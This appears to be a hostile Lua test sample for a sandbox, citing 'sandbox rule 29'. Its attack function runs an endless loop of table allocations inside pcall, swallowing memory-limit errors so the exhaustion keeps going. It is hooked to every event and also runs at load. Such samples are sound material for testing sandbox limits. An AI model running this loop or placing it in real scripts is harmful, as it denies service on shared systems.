-- at the brim again and again, each refusal swallowed (sandbox rule 29)
local function attack(event)
  local t = {}
  while true do pcall(function() for i = 1, 1e9 do t[#t + 1] = {} end end) end
end
function on_event(event) return attack(event) end
return attack()
